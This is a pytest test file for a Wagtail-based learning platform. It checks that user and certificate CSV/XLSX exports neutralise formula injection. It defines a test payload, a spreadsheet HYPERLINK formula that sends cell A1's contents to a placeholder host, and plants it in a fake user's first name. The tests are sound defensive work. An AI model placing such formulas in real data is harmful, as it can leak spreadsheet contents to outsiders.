"""Wagtail's own "Download CSV/XLSX" (users, certificates, units, any `list_export`) leave through
the one spreadsheet writer: a name typed as a formula reaches a spreadsheet as inert text."""

import csv
import io
from http import HTTPStatus

import openpyxl
import pytest
from django.urls import URLPattern, URLResolver, get_resolver, reverse
from wagtail.admin.views.mixins import SpreadsheetExportMixin

from certificates.models import Certificate
from lms.spreadsheets.writing import SafeSpreadsheetExportMixin
from lms.users.roles import Role
from tests import factories
from tests.factories import UserFactory

pytestmark = pytest.mark.django_db

FORMULA = '=HYPERLINK("http://zly.example/?d="&A1,"Kliknij")'


def read(response) -> bytes:
    return b"".join(response.streaming_content) if response.streaming else response.content


def csv_rows(response):
    text = read(response).decode("utf-8-sig")
    return list(csv.reader(io.StringIO(text), delimiter=";"))


def xlsx_cells(response):
    sheet = openpyxl.load_workbook(io.BytesIO(read(response))).active
    return [cell for row in sheet.iter_rows() for cell in row]


@pytest.fixture
def attacker(db):
    """Someone who typed a formula as their first name in their profile."""
    return UserFactory(first_name=FORMULA, email="atak@gmina.example", roles=[Role.LEARNER])


def test_users_csv_neutralises_a_formula_in_a_name(admin_client, attacker):
    response = admin_client.get(reverse("wagtailusers_users:index"), {"export": "csv"})

    row = next(row for row in csv_rows(response) if row[0] == "atak@gmina.example")
    assert response.status_code == HTTPStatus.OK
    assert row[1] == "'" + FORMULA
    assert response["Content-Type"] == "text/csv; charset=utf-8"


def test_users_xlsx_has_the_name_as_a_string_cell(admin_client, attacker):
    response = admin_client.get(reverse("wagtailusers_users:index"), {"export": "xlsx"})

    cells = [cell for cell in xlsx_cells(response) if cell.value == FORMULA]
    assert response.status_code == HTTPStatus.OK
    assert len(cells) == 1
    assert cells[0].data_type == "s"


def test_users_export_keeps_types(admin_client, attacker):
    response = admin_client.get(reverse("wagtailusers_users:index"), {"export": "csv"})

    header, *rows = csv_rows(response)
    row = next(row for row in rows if row[0] == "atak@gmina.example")
    assert header[0].lower() == "adres e-mail"
    assert row[-1] == "tak"  # is_active, in Polish


def test_certificates_export_neutralises_a_formula_in_the_holders_name(admin_client, attacker):
    certificate = factories.completed_certificate(attacker, factories.course(quiz=False))
    Certificate.objects.filter(pk=certificate.pk).update(holder_name=FORMULA)
    url = reverse("certificates_admin:index")

    csv_response = admin_client.get(url, {"export": "csv"})
    xlsx_response = admin_client.get(url, {"export": "xlsx"})

    row = next(row for row in csv_rows(csv_response)[1:] if row[0] == certificate.number)
    assert row[1] == "'" + FORMULA
    cell = next(cell for cell in xlsx_cells(xlsx_response) if cell.value == FORMULA)
    assert cell.data_type == "s"


def _views(resolver=None):
    for pattern in (resolver or get_resolver()).url_patterns:
        if isinstance(pattern, URLResolver):
            yield from _views(pattern)
        elif isinstance(pattern, URLPattern):
            view_class = getattr(pattern.callback, "view_class", None)
            if view_class is not None:
                yield pattern, view_class, getattr(pattern.callback, "view_initkwargs", {})


def test_every_list_export_of_the_project_uses_the_one_writer():
    """A new viewset with `list_export` must not bring back Wagtail's raw CSV writer (the reports
    build their files themselves, through the same module)."""
    unsafe = []
    for pattern, view_class, initkwargs in _views():
        if not issubclass(view_class, SpreadsheetExportMixin):
            continue
        if not (initkwargs.get("list_export") or getattr(view_class, "list_export", None)):
            continue
        if view_class.__module__.startswith("wagtail."):
            continue  # Wagtail's own reports (page history etc.): administrators' content only
        safe = issubclass(view_class, SafeSpreadsheetExportMixin) or (
            view_class.as_spreadsheet is not SpreadsheetExportMixin.as_spreadsheet
        )
        if not safe:
            unsafe.append(f"{pattern.name}: {view_class.__module__}.{view_class.__name__}")
    assert unsafe == []
